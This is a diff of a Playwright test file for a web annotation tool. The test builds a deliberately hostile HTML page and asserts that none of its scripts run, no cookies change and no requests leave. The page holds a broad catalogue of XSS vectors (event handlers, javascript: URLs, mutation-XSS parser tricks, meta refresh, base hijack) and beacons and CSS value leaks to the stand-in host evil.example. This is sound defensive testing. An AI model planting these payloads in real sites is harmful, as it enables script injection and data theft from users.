@@ -6,7 +6,7 @@ import re
 from pathlib import Path
 
 import pytest
-from playwright.sync_api import Dialog, Download
+from playwright.sync_api import Dialog, Download, FrameLocator, Locator
 from playwright.sync_api import Page as BrowserPage
 
 from siteloom.model import Page
@@ -21,14 +21,14 @@ ANNOTATE = f"/clusters/{SITE}/1/annotate"
 NAMES = ["Amber", "Birch", "Cedar", "Dogwood", "Elder", "Fir"]
 ADDRESSES = {f"https://{SITE}/tree/{number}": name for number, name in enumerate(NAMES)}
 
-# What a script of the page would do if it ran, in whatever way it can make itself noticed.
+# What a script of the page would do if it ran; in such quotes as stand well within any others.
 STRIKE = (
-    "try{top.document.title='struck'}catch(e){}try{top.name='struck'}catch(e){}"
-    "try{document.cookie='struck=1'}catch(e){}try{localStorage.struck=1}catch(e){}"
-    "try{fetch('/struck')}catch(e){}try{open('https://evil.example/open')}catch(e){}"
-    "new Image().src='https://evil.example/struck';alert('struck')"
+    "try{top.document.title=`struck`}catch(e){}try{top.name=`struck`}catch(e){}"
+    "try{document.cookie=`struck=1`}catch(e){}try{localStorage.struck=1}catch(e){}"
+    "try{fetch(`/struck`)}catch(e){}try{open(`https://evil.example/open`)}catch(e){}"
+    "new Image().src=`https://evil.example/struck`;alert(`struck`)"
 )
-NOTICED = "[document.title, document.cookie, localStorage.length, window.name, document.documentElement.lang]"
+NOTICED = "[document.title, document.cookie, localStorage.length, window.name]"
 
 # What the application itself asks for while a template is annotated.
 OWN_REQUESTS = re.compile(
@@ -40,8 +40,10 @@ HEAD = """
 <base href="https://evil.example/base/" target=_top>
 <meta http-equiv=refresh content="0;url=https://evil.example/refresh">
 <meta http-equiv=refresh content="1;url=javascript:STRIKE">
-<meta http-equiv=Content-Security-Policy content="script-src *"><meta http-equiv=Set-Cookie content="struck=1">
-<link rel=stylesheet href=https://evil.example/link.css><link rel=stylesheet href="data:text/css,h1{display:none}">
+<meta http-equiv=Content-Security-Policy content="script-src *"><meta http-equiv=Set-Cookie
+content="struck=1">
+<link rel=stylesheet href=https://evil.example/link.css><link rel=stylesheet
+href="data:text/css,h1{display:none}">
 <link rel=prefetch href=https://evil.example/prefetch><link rel=preconnect href=https://evil.example>
 <link rel=manifest href=https://evil.example/manifest><link rel=icon href=https://evil.example/icon>
 <script>STRIKE</script><script src=https://evil.example/script.js></script>
@@ -50,9 +52,12 @@ HEAD = """
 <style>
 @import "https://evil.example/import.css"; @import url(https://evil.example/import-url.css);
 @font-face { font-family: x; src: url(https://evil.example/font.woff) }
-body { font-family: x, serif; background: url(https://evil.example/background); cursor: url(https://evil.example/c), auto }
-h1::before { content: url(https://evil.example/content) } #by { background: u\\72l(https://evil.example/escaped) }
-div:not([class]), html > :last-child:not(body), [aria-hidden] { display: none !important; opacity: 0 !important }
+body { font-family: x, serif; background: url(https://evil.example/background); cursor:
+url(https://evil.example/c), auto }
+h1::before { content: url(https://evil.example/content) } #by { background:
+u\\72l(https://evil.example/escaped) }
+div:not([class]), html > :last-child:not(body), [aria-hidden] { display: none !important; opacity: 0
+!important }
 html > div { all: unset !important; transform: scale(0) !important; z-index: -1 !important }
 html { pointer-events: none } body { pointer-events: auto; user-select: none; -webkit-user-select: none }
 input[value^="a"] { background: url(https://evil.example/typed-a) }
@@ -78,9 +83,11 @@ BODY = """
 <li><a class=trap href="//evil.example/s" style="position:relative;z-index:9" accesskey=n autofocus tabindex=1
        onfocus="STRIKE">focus</a>
 </ul>
-<img class=trap alt=picture src=https://evil.example/image srcset="https://evil.example/set 2x" onerror="STRIKE">
+<img class=trap alt=picture src=https://evil.example/image srcset="https://evil.example/set 2x"
+onerror="STRIKE">
 <img class=trap alt=relative src=missing.png onerror="STRIKE" onload="STRIKE">
-<details class=trap open ontoggle="STRIKE"><summary class=trap onclick="STRIKE">more</summary>unfolded</details>
+<details class=trap open ontoggle="STRIKE"><summary class=trap
+onclick="STRIKE">more</summary>unfolded</details>
 <form id=attributes name=body action=https://evil.example/form method=post target=_top onsubmit="STRIKE">
 <input class=trap name=parentElement type=password onfocus="STRIKE" onkeydown="STRIKE">
 <input class=trap name=closest id=closest value=abc autofocus onfocus="STRIKE">
@@ -89,29 +96,39 @@ BODY = """
 <button class=trap formaction=https://evil.example/formaction formtarget=_blank>send</button>
 <input class=trap type=submit value="send, too"></form>
 <img name=body alt=one><img name=documentElement alt=two><img name=querySelectorAll alt=three>
-<img name=defaultView alt=four><form name=createElement></form><object id=replaceChild name=importNode></object>
+<img name=defaultView alt=four><form name=createElement></form><object id=replaceChild
+name=importNode></object>
 <a id=defaultView href="javascript:STRIKE"></a><a id=location name=location></a>
 <iframe class=trap src=https://evil.example/frame name=top></iframe>
 <iframe class=trap srcdoc="<script>STRIKE</script><base target=_top>" onload="STRIKE"></iframe>
 <iframe class=trap src="javascript:STRIKE"></iframe>
-<object class=trap data=https://evil.example/object><param name=x><embed src=https://evil.example/embed></object>
+<object class=trap data=https://evil.example/object><param name=x><embed
+src=https://evil.example/embed></object>
 <embed class=trap src="data:text/html,<script>parent.STRIKE</script>">
-<video class=trap src=https://evil.example/video poster=https://evil.example/poster autoplay onloadstart="STRIKE">
-<source src=https://evil.example/source onerror="STRIKE"><track src=https://evil.example/track default></video>
+<video class=trap src=https://evil.example/video poster=https://evil.example/poster autoplay
+onloadstart="STRIKE">
+<source src=https://evil.example/source onerror="STRIKE"><track src=https://evil.example/track
+default></video>
 <svg class=trap width=60 height=20 onload="STRIKE"><script>STRIKE</script><a xlink:href="javascript:STRIKE">
 <text y=10>drawn</text><animate attributeName=href values="javascript:STRIKE" begin=0s /></a>
 <image href=https://evil.example/svg-image width=9 height=9 /><use href=https://evil.example/use#x />
 <set attributeName=onmouseover to="STRIKE" />
 <foreignObject width=60 height=20><iframe src=https://evil.example/foreign></iframe>
 <img src=x onerror="STRIKE"></foreignObject></svg>
-<math class=trap href="javascript:STRIKE"><mtext><mglyph><style><!--</style><img title="--><img src=x onerror=STRIKE>">
+<math class=trap href="javascript:STRIKE"><mtext><mglyph><style><!--</style><img title="--><img src=x
+onerror=STRIKE>">
 </mtext></math>
 <template><script>STRIKE</script><img src=https://evil.example/template onerror="STRIKE"></template>
-<noscript><p title="</noscript><img src=x onerror=STRIKE>"><meta http-equiv=refresh content="0;url=/struck"></noscript>
-<marquee class=trap onstart="STRIKE">moving</marquee><div class=trap contenteditable onbeforeinput="STRIKE">edit</div>
-<dialog class=trap open onclose="STRIKE"><form method=dialog><button autofocus>sign in again</button></form></dialog>
-<p class=trap style="animation: x 1s; width: 60px" onanimationstart="STRIKE" onpointerdown="STRIKE">price PRICE</p>
-<xmp><script>STRIKE</script></xmp><textarea class=trap onfocus="STRIKE"></textarea><script>STRIKE</textarea></script>
+<noscript><p title="</noscript><img src=x onerror=STRIKE>"><meta http-equiv=refresh
+content="0;url=/struck"></noscript>
+<marquee class=trap onstart="STRIKE">moving</marquee><div class=trap contenteditable
+onbeforeinput="STRIKE">edit</div>
+<dialog class=trap open onclose="STRIKE"><form method=dialog><button autofocus>sign in
+again</button></form></dialog>
+<p class=trap style="animation: x 1s; width: 60px" onanimationstart="STRIKE" onpointerdown="STRIKE">price
+PRICE</p>
+<xmp><script>STRIKE</script></xmp><textarea class=trap
+onfocus="STRIKE"></textarea><script>STRIKE</textarea></script>
 NESTED
 <p>HUGE</p>
 <div id=veil class=trap onmousemove="STRIKE">We value your privacy</div>
@@ -128,18 +145,24 @@ def hostile(name: str, number: int) -> str:
     }
     page = (
         f"<!DOCTYPE html><html onload='STRIKE'><head><title>{name}</title>{HEAD}</head>"
-        f"<body onload='STRIKE' onclick='STRIKE' onbeforeunload='STRIKE' onpageshow='STRIKE'>{BODY}</body></html>"
+        f"<body onload='STRIKE' onclick='STRIKE' onbeforeunload='STRIKE' onpageshow='STRIKE'>{BODY}"
     )
     for part, text in parts.items():
-        page = page.replace(part, text.replace("'", "&#39;") if part == "STRIKE" else text)
+        page = page.replace(part, text)
     return page
 
 
 @pytest.fixture
 def workspace(tmp_path: Path) -> Path:
-    pages = [Page.from_text(url, hostile(name, number)) for number, (url, name) in enumerate(ADDRESSES.items())]
+    pages = [
+        Page.from_text(url, hostile(name, number)) for number, (url, name) in enumerate(ADDRESSES.items())
+    ]
     make_workspace(tmp_path / ".siteloom", pages)
     return tmp_path / ".siteloom"
+
+
+def seen_traps(shown: BrowserPage | FrameLocator) -> list[Locator]:
+    return [trap for trap in shown.locator(".trap:not(#veil)").all() if trap.is_visible()]
 
 
 def cookies(page: BrowserPage) -> set[str]:
@@ -171,26 +194,30 @@ def test_a_hostile_page_is_annotated_and_does_nothing(page: BrowserPage, overhea
     before = page.evaluate(NOTICED)
     annotator.add("name")
     heading = annotator.frame.locator("h1")
-    heading.hover(force=True)  # the veil is before it
+    heading.hover(force=True)  # what is outlined is the veil before it
     annotator.press("h")
-    unmarked = heading.screenshot()
 
-    for trap in annotator.frame.locator(".trap:not(#veil)").all():
-        if trap.is_visible():
-            trap.click(force=True)
-            trap.click(force=True, button="middle")
-            page.keyboard.press("Enter")
+    for trap in seen_traps(annotator.frame):
+        trap.click(force=True)
+    for link in annotator.frame.locator("a.trap").all():
+        link.click(button="middle")
     annotator.frame.get_by_text("top", exact=True).click(modifiers=["Control"])
     annotator.frame.get_by_text("new", exact=True).dblclick()
     annotator.wait()
 
-    annotator.click("name", [heading])
-    page.mouse.move(0, 0)
+    pictures = []
+    for act in (heading.hover, heading.click):
+        act()
+        annotator.wait()
+        page.mouse.move(0, 0)
+        pictures.append(page.locator("iframe").screenshot())
+    assert pictures[0] != pictures[1], "the value is framed, whatever the styles of the page say"
     assert annotator.values("name") == [ADDRESSES[annotator.url()]]
-    assert heading.screenshot() != unmarked, "the frame of a value can be seen"
     for _ in range(2):
         annotator.go_to_next_page()
         assert annotator.values("name") == [ADDRESSES[annotator.url()]]
+    annotator.frame.locator("input.trap").first.click(force=True)
+    page.keyboard.press("Enter")
     page.wait_for_timeout(1_500)  # a redirection takes its time
     assert page.evaluate(NOTICED) == before
     assert cookies(page) == {"siteloom"}
@@ -213,12 +240,12 @@ def test_its_parts_do_nothing_by_themselves(
     (number,) = workspace_store.page_ids([PageAddress(SITE, next(iter(ADDRESSES)))])
     page.goto(f"/pages/{number}/{part}")
     address = page.url
-    for trap in page.locator(".trap:not(#veil)").all():
-        if trap.is_visible():
-            trap.click(force=True)
+    for trap in seen_traps(page):
+        trap.click(force=True)
     page.keyboard.press("Enter")
     page.wait_for_timeout(1_500)
     assert page.url == address
     assert overheard.addresses == [address]
     assert cookies(page) == {"siteloom"}
     assert harm.seen == []
+    overheard.forgive(404)  # the icon that browsers look for
